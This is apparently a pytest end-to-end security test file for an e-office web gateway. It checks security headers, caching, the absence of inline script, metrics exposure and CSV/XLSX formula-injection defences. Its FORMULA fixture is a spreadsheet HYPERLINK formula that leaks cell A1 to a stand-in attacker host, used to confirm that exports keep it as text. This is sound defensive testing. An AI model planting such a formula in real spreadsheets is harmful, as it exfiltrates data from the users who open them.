"""The web UI and the API are served with a Content-Security-Policy that allows no
inline script or style, are never framed, send no referrer and are not sniffed;
/metrics is not reachable through the public gateway port; the UI's files and the
vocabulary are revalidated by ETag, API answers never stored; spreadsheets never hold a
formula that came from a document's text."""
import io
import os
import re
import zipfile

import pytest
import requests
from tests.e2e.helpers import Api, register, wait_until


STATIC = os.path.join(os.path.dirname(__file__), "..", "..", "services", "gateway", "static")
FORMULA = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Bấm vào đây")'


@pytest.fixture(scope="module")
def clerk(system):
    return Api(system.base_url, "vanthu.ubnd")


@pytest.mark.parametrize("path", ["/", "/static/app.js", "/api/v1/openapi.json",
                                  "/api/v1/me", "/api/v1/no-such-route",
                                  "/api/v1/vocabulary"])
def test_every_answer_carries_the_security_headers(system, path):
    response = requests.get(system.base_url + path, timeout=10)
    headers = response.headers
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["Referrer-Policy"] == "no-referrer"
    policy = dict(part.strip().split(" ", 1)
                  for part in headers["Content-Security-Policy"].split(";"))
    assert policy["script-src"] == "'self'" and policy["style-src"] == "'self'"
    assert policy["frame-ancestors"] == "'none'" and policy["object-src"] == "'none'"
    assert "unsafe" not in headers["Content-Security-Policy"]
    # the browser PUTs upload bytes straight to storage: its origin is allowed, no other
    storage = f"http://127.0.0.1:{system.ports['storage']}"
    assert policy["connect-src"].split() == ["'self'", storage]


@pytest.mark.parametrize("path", ["/", "/static/app.js", "/api/v1/vocabulary"])
def test_the_web_ui_and_the_vocabulary_are_revalidated_by_etag_with_a_304(system, path):
    first = requests.get(system.base_url + path, timeout=10)
    assert first.status_code == 200 and first.headers["Cache-Control"] == "no-cache"
    again = requests.get(system.base_url + path, timeout=10,
                         headers={"If-None-Match": first.headers["ETag"]})
    assert again.status_code == 304 and again.content == b""
    assert again.headers["ETag"] == first.headers["ETag"]
    assert again.headers["X-Frame-Options"] == "DENY" and \
        "frame-ancestors 'none'" in again.headers["Content-Security-Policy"]


def test_api_answers_are_never_stored(system):
    response = requests.get(system.base_url + "/api/v1/health", timeout=10)
    assert response.headers["Cache-Control"] == "no-store" and "ETag" not in response.headers


def test_the_web_ui_needs_no_inline_script_or_style():
    for folder, _, names in os.walk(STATIC):
        for name in names:
            with open(os.path.join(folder, name), encoding="utf-8") as handle:
                text = handle.read()
            if name.endswith(".html"):
                assert not re.search(r"<script(?![^>]*\bsrc=)", text), name
                assert "<style" not in text and " style=" not in text, name
                assert not re.search(r"\son[a-z]+=", text), name
            if name.endswith(".js"):
                assert not re.search(r"\beval\(|new Function\(|setAttribute\(\"style\"|"
                                     r"\.innerHTML\s*=|cssText", text), name


def test_metrics_are_not_served_on_the_public_port_but_on_the_private_one(system):
    public = requests.get(system.base_url + "/metrics", timeout=10)
    assert public.status_code == 404 and "eoffice_entrypoint" not in public.text
    assert requests.get(system.base_url + "/api/v1/metrics",
                        timeout=10).status_code in (401, 404)
    private = requests.get(system.metrics_url("gateway"), timeout=10)
    assert private.status_code == 200 and "eoffice_entrypoint_calls_total" in private.text
    assert str(system.ports["gateway_metrics"]) != str(system.port)


def formulas_in(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist()
                  if name.startswith("xl/worksheets/")]
    return [formula for sheet in sheets for formula in re.findall(r"<f>(.*?)</f>", sheet)]


def test_a_subject_that_looks_like_a_formula_stays_text_in_every_spreadsheet(system, clerk):
    created = register(clerk, [], 6161, subject=FORMULA, code_notation="CT-XLS")
    assert created.status_code == 201, created.text
    document = created.json()
    register_id = clerk.get(f"/incoming/{document['id']}").json()["register_id"]
    exports = {
        "register": clerk.get(f"/registers/{register_id}/export", params={"format": "xlsx"}),
        "history": clerk.get(f"/documents/{document['id']}/history",
                             params={"format": "xlsx"}),
    }
    found = wait_until(lambda: clerk.get("/search", params={"q": "CT-XLS"}).json()
                       .get("total"), seconds=30)
    assert found
    exports["search"] = clerk.get("/search/export", params={"q": "CT-XLS", "format": "xlsx"})
    for name, response in exports.items():
        assert response.status_code == 200, (name, response.text[:300])
        assert formulas_in(response.content) == [], name
        with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
            text = " ".join(archive.read(n).decode() for n in archive.namelist()
                            if n.endswith(".xml"))
        assert "HYPERLINK" in text, name
        if name == "search":   # the subject has a cell of its own there, kept as text
            assert 'quotePrefix="1"' in text
